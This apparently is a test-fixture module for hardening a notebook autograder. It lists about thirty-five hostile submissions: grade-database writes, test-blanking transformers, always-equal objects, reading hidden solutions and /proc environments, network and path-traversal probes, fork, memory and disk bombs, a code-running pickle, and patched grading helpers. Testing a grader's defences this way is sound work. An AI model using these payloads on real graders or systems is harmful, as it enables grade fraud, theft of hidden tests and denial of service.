"""Submissions that attack: what each tries, its code, and what may come of it at the most.

All but the last group have wrong answers. `gains` are the marks that it may have (add_test1,
add_test2, ask_test1), `says` what its feedback says when it was stopped.
"""

from collections.abc import Callable
from dataclasses import dataclass
from typing import Any

from nbformat import v4

from . import made_part as made

WRONG = "def add(first, second):\n    return 0"
WRONG_ASK = "def ask(prompt):\n    return 'x'"
MARK = "FOUND:"  # what an attack writes before what it could read; not in its source


def _nothing(notebook: Any) -> None:
    pass


@dataclass(frozen=True)
class Attack:
    """One attack, the same for stock nbgrader and for `course grade`."""

    what: str
    add: str = WRONG
    ask: str = WRONG_ASK
    first: str = ""  # a cell at the notebook's top
    gains: tuple[int, int, int] = (0, 0, 0)
    says: str = ""
    change: Callable[[Any], None] = _nothing

    def notebook(self) -> Any:
        """Return the submission."""
        notebook = made.solve(made.blank(), add=self.add, ask=self.ask)
        if self.first:
            notebook.cells.insert(2, v4.new_code_cell(self.first))
        self.change(notebook)
        return notebook


def _forge(notebook: Any) -> None:
    for name in ("add_test1", "add_test2", "ask_test1"):
        cell = made.find(notebook, name)
        cell.source = "40"
        cell.metadata.nbgrader.points = 1000
    known = {"grade": True, "grade_id": "bonus", "locked": True, "points": 500, "solution": False,
             "schema_version": 3, "task": False}  # fmt: skip
    notebook.cells.append(v4.new_code_cell("500", metadata={"nbgrader": known}))


def _delete(notebook: Any) -> None:
    made.without(notebook, "add_test1", "add_test2", "ask_test1")


def _imitate(notebook: Any) -> None:
    for name in ("add", "ask"):
        made.find(notebook, name).outputs = [
            v4.new_output("execute_result", {"text/plain": "40"}, execution_count=1)
        ]
    notebook.cells.append(v4.new_code_cell("40.0"))


_READ = """
import glob, os, subprocess
def look(*patterns):
    for pattern in patterns:
        for path in glob.glob(pattern, recursive=True):
            try:
                text = open(path, "rb").read()[:2_000_000].decode("utf-8", "replace")
            except OSError:
                continue
            for secret in ("-1, " + "-41", "sum([first, " + "second])", "SQLite " + "format", "other-" + "student"):
                if secret in text:
                    print("FOU" "ND:", path, secret)
"""

ATTACKS = {
    # what FACTS.md lists as tried on stock nbgrader
    "transformer": Attack("an input transformer that blanks every assert and equal()", first="""
ip = get_ipython()
def blank(lines):
    return ["pass\\n" if "equal(" in line or "assert" in line or "wire" in line else line for line in lines]
ip.input_transformers_cleanup.append(blank)"""),
    "equal-to-all": Attack("an object that equals everything", add="""
class Yes(int):
    def __eq__(self, other): return True
    def __ne__(self, other): return False
    def __bool__(self): return True
    __hash__ = int.__hash__
    __class__ = property(lambda self: int)
def add(first, second): return Yes()"""),
    "gradebook": Attack("writing marks into the gradebook", first="""
import sqlite3, glob
for path in ["../../../gradebook.db", *glob.glob("/**/gradebook.db", recursive=True)]:
    try:
        with sqlite3.connect(f"file:{path}?mode=rw", uri=True) as db:
            db.execute("update grade set extra_credit = 50")
            print("FOU" "ND:", path)
    except sqlite3.Error: pass"""),
    "solutions": Attack("reading the solutions and hidden tests", first=_READ +
        'look("../../../s*/**/*.ipynb", "/**/solutions/**", "/**/*exercises*.ipynb", "/**/*.db", "/tmp/**")'),
    "warning": Attack("a warning in a right answer (no attack: full marks)", add="""
import warnings
def add(first, second):
    warnings.warn("old")
    return first + second""", gains=(20, 40, 0)),
    "deleted": Attack("deleting the test cells", change=_delete),
    "exit": Attack("os._exit(0) in a call", add="""
import os
def add(first, second): os._exit(0)""", says="끝"),
    "stubborn": Attack("a loop that swallows every interrupt", add="""
import time
def add(first, second):
    while True:
        try:
            while True: time.sleep(0.01)
        except BaseException:
            continue""", says="멈"),
    # looking around
    "environment": Attack("reading the environment", first='import os; print("FOU" "ND:" if "hunter2" in str(os.environ) else "")'),
    "proc": Attack("reading other processes' environment and memory", first="""
import glob, os
for path in glob.glob("/proc/[0-9]*/environ") + glob.glob("/proc/[0-9]*/cmdline"):
    try: text = open(path, "rb").read()
    except OSError: continue
    if b"hunter2" in text or b"examiner" in text: print("FOU" "ND:", path)
import threading
own = {one.native_id for one in threading.enumerate()} | {os.getpid()}
for pid in set(range(1, 400)) - own:
    try: os.kill(pid, 0); print("FOU" "ND:", pid)
    except OSError: pass"""),
    "others": Attack("reading other submissions, and leaving a note for them", first=_READ + """
import os
for folder in ("/", "/tmp", "/home", "/home/student", "/dev/shm", "/dev", "/usr", "/etc", "/var"):
    try: open(os.path.join(folder, "other-student-note"), "w").write("other-" + "student")
    except OSError: pass
for path in glob.glob("/other-student-note") + glob.glob("/[dhtv]*/**/other-student-note", recursive=True):
    print(path if path.startswith(("/tmp/", "/home" "/student/", "/dev/shm/")) else "FOU" "ND: " + path)"""),
    "after-others": Attack("finding what an earlier submission left", first="""
import glob, os
left = [p for place in ("/", "/[dehtv]*/", "/[dehtv]*/*/") for p in glob.glob(place + "other-student-note")]
print("FOU" "ND:" if left else "clean")"""),
    "network": Attack("reaching the network", first="""
import socket
for target in (("1.1.1.1", 53), ("10.0.0.1", 80), ("169.254.169.254", 80)):
    try: socket.create_connection(target, 1); print("FOU" "ND:", target)
    except OSError as error: print(error)"""),
    "surface": Attack("asking the gateway for more than the API", first="""
import os, urllib.request, urllib.error
base = os.environ["COURSE_GATEWAY"] if "COURSE_GATEWAY" in os.environ else os.environ["OPENAI_BASE_URL"][:-3]
for path in ("/wire", "/log", "/scenes", "/settings", "/admin", "/../../etc/passwd", "/recordings", "/docs", "/openapi.json", "/shutdown"):
    try: print("FOU" "ND:", path, urllib.request.urlopen(base + path, timeout=5).status)
    except urllib.error.HTTPError as error: print(error.code)"""),
    "outside": Attack("writing outside of its directory", first="""
import os
for path in ("/etc/passwd", "/usr/lib/x", "/x", "../../../x", os.__file__, "/proc/sys/kernel/core_pattern", "/sys/x"):
    try: open(path, "a").close(); print("FOU" "ND:", path)
    except OSError: pass""",),
    # using up the machine
    "fork-bomb": Attack("a fork bomb", add="""
import os, time
def add(first, second):
    while True:
        try: os.fork()
        except OSError: time.sleep(0.01)"""),
    "thread-bomb": Attack("a thousand threads", add="""
import threading, time
def add(first, second):
    for _ in range(5000): threading.Thread(target=time.sleep, args=(60,), daemon=True).start()
    time.sleep(60)"""),
    "memory-bomb": Attack("a memory bomb", add="""
def add(first, second):
    kept = []
    while True: kept.append(bytearray(50_000_000))"""),
    "shared-memory": Attack("a memory bomb in shared mappings, over many processes", add="""
import mmap, os, time
def add(first, second):
    for _ in range(20):
        if os.fork() == 0: break
    kept = []
    while True:
        block = mmap.mmap(-1, 50_000_000); block.write(b"x" * 50_000_000); kept.append(block)"""),
    "disk-bomb": Attack("a disk bomb", add="""
def add(first, second):
    for name in ("x", "/tmp/x", "/dev/shm/x"):
        for number in range(10_000):
            with open(f"{name}{number}", "wb") as file:
                for _ in range(100): file.write(bytes(1_000_000))"""),
    "output-bomb": Attack("endless output", first="""
for number in range(200_000): print("x" * 1000)"""),
    "reply-bomb": Attack("a reply of hundreds of megabytes", add="""
def add(first, second): return "x" * 300_000_000"""),
    "deep-reply": Attack("a reply nested without end", add="""
def add(first, second):
    value = []
    for _ in range(100_000): value = [value]
    return value"""),
    "endless": Attack("a generator that never ends where a number is expected", add="""
import itertools
def add(first, second): return itertools.count()"""),
    "stopped": Attack("stopping itself by a signal", add="""
import os, signal
def add(first, second):
    os.kill(os.getpid(), signal.SIGSTOP); os.kill(0, signal.SIGSTOP); return 0"""),
    "daemon": Attack("daemons and threads left running", first="""
import os, threading, time
if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        while True: time.sleep(1)
    os._exit(0)
threading.Thread(target=lambda: [time.sleep(0.01) for _ in range(10**9)]).start()"""),
    # the pipe
    "closed-pipe": Attack("closing every open file", add="""
import os
def add(first, second):
    os.closerange(3, 256); return 3""", says="끝"),
    "rubbish": Attack("writing rubbish into the pipe", add="""
import os
def add(first, second):
    for fd in range(3, 64):
        try: os.write(fd, b"\\xff" * 1000)
        except OSError: pass
    return 3"""),
    "flood": Attack("writing a hundred megabytes into the pipe", add="""
import os
def add(first, second):
    for fd in range(3, 64):
        try:
            for _ in range(100): os.write(fd, b"\\x00\\x00\\x00\\x02{}" * 170_000)
        except OSError: pass
    return 3"""),
    "twice": Attack("replying twice, and before it is asked", add="""
import gc, json
def add(first, second):
    for one in gc.get_objects():
        if type(one).__name__ == "Interpreter":
            for number in range(1, 60):
                body = json.dumps({"id": number, "reply": {"value": 3}}).encode()
                one.channel.sendall(len(body).to_bytes(4, "big") + body)
    return 0"""),
    "lies": Attack("answering in the interpreter's stead with what is no value", add="""
import gc
def add(first, second):
    for one in gc.get_objects():
        if type(one).__name__ == "Interpreter":
            one._send = lambda message: type(one)._send(one, {"id": message["id"], "reply": {"value": {"$model": ["os", "system"], "data": "id"}}})
    return 0"""),
    "pickle": Attack("a pickle that runs code where it is read", add="""
import pickle
class Evil:
    def __reduce__(self): return (eval, ("print('FOU' + 'ND:')",))
def add(first, second): return pickle.dumps(Evil())"""),
    # the interpreter
    "settrace": Attack("sys.settrace that changes what tests compare", first="""
import sys, threading
def trace(frame, event, arg):
    if "expected" in frame.f_locals: frame.f_locals["expected"] = 0
    return trace
sys.settrace(trace); threading.settrace(trace)"""),
    "patched": Attack("json, socket, time and builtins replaced", first="""
import builtins, json, socket, time
json.dumps = lambda *a, **k: "{}"
json.loads = lambda *a, **k: {}
time.sleep = time.monotonic = lambda *a: 0
socket.socket.sendall = lambda *a: None
builtins.isinstance = lambda *a: True
builtins.len = lambda *a: 1
AssertionError.__init__ = lambda *a: None if False else None""", says="멈"),
    "no-equal": Attack("helpers.grading replaced by one whose checks pass", first="""
import helpers.grading, helpers.grading.expect
for module in (helpers.grading, helpers.grading.expect):
    module.equal = module.contains = module.fail = lambda *a, **k: None
helpers.grading.scenes.Wire.count = lambda *a: None
class Any:
    def __eq__(self, other): return True
helpers.grading.student.__class__.__getattr__ = lambda self, name: lambda *a, **k: Any()"""),
    "closed-stderr": Attack("stdout and stderr closed", first="import sys, os; sys.stderr.close(); sys.stdout.close(); os.close(1); os.close(2)"),
    "forged": Attack("forged grade ids and points in the metadata", change=_forge),
    "imitation": Attack("outputs that imitate marks", change=_imitate),
    "remembered": Attack("the scripted answers taken from the gateway by another request", ask="""
import os, httpx
def ask(prompt):
    body = {"model": "gpt-5.4-mini", "messages": [{"role": "user", "content": "x"}]}
    reply = httpx.post(os.environ["OPENAI_BASE_URL"] + "/chat/completions", json=body)
    return reply.json()["choices"][0]["message"]["content"]"""),
}  # fmt: skip
